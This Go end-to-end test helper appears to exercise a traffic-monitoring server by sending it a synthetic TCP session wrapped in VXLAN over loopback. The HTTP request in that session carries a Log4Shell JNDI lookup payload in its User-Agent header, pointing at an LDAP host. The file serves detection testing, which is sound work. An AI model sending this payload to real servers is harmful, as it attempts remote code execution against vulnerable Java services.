// Package e2e holds whole servers to their promises: they are started as a person would start them, fed packets over loopback,
// killed, filled up, and asked by way of the API. What comes in is the program, built by the test; what goes out is passes and
// failures. Its servers listen on loopback only and keep everything in folders of the test's own.
package e2e

import (
	"encoding/binary"
	"net"
	"net/netip"
)

// mirror sends VXLAN datagrams as a mirror does.
type mirror struct{ conn net.Conn }

func dialMirror(address string) (*mirror, error) {
	conn, err := net.Dial("udp", address)
	return &mirror{conn}, err
}

// attack has one host send another a Log4Shell look-up over HTTP, which is told as soon as it is answered.
func (m *mirror) attack(from, to netip.Addr) error {
	request := "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://" + from.String() + ":1389/a}\r\n\r\n"
	answer := "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
	up, down := uint32(len(request)), uint32(len(answer))
	for _, frame := range [][]byte{
		tcp(from, to, 40000, 80, 1, 0, 0x02), tcp(to, from, 80, 40000, 1, 2, 0x12), tcp(from, to, 40000, 80, 2, 2, 0x10),
		with(tcp(from, to, 40000, 80, 2, 2, 0x18), request), with(tcp(to, from, 80, 40000, 2, 2+up, 0x18), answer),
		tcp(from, to, 40000, 80, 2+up, 2+down, 0x11), tcp(to, from, 80, 40000, 2+down, 3+up, 0x11), tcp(from, to, 40000, 80, 3+up, 3+down, 0x10),
	} {
		if err := m.send(frame); err != nil {
			return err
		}
	}
	return nil
}

// with adds data to a segment.
func with(frame []byte, data string) []byte {
	binary.BigEndian.PutUint16(frame[16:], uint16(40+len(data)))
	return append(frame, data...)
}

func (m *mirror) send(frame []byte) error {
	const vni = 4242
	_, err := m.conn.Write(append([]byte{8, 0, 0, 0, vni >> 16, vni >> 8 & 0xff, vni & 0xff, 0}, frame...))
	return err
}

// tcp makes an Ethernet frame with a TCP segment without data. Its checksums are zero, as a mirror's with offload may be.
func tcp(from, to netip.Addr, source, dest uint16, seq, ack uint32, flags byte) []byte {
	b := make([]byte, 54)
	copy(b, []byte{2, 0, 0, 0, 0, 2, 2, 0, 0, 0, 0, 1, 8, 0, 0x45, 0, 0, 40})
	b[22], b[23] = 64, 6
	src, dst := from.As4(), to.As4()
	copy(b[26:], src[:])
	copy(b[30:], dst[:])
	binary.BigEndian.PutUint16(b[34:], source)
	binary.BigEndian.PutUint16(b[36:], dest)
	binary.BigEndian.PutUint32(b[38:], seq)
	binary.BigEndian.PutUint32(b[42:], ack)
	b[46], b[47] = 0x50, flags
	return b
}
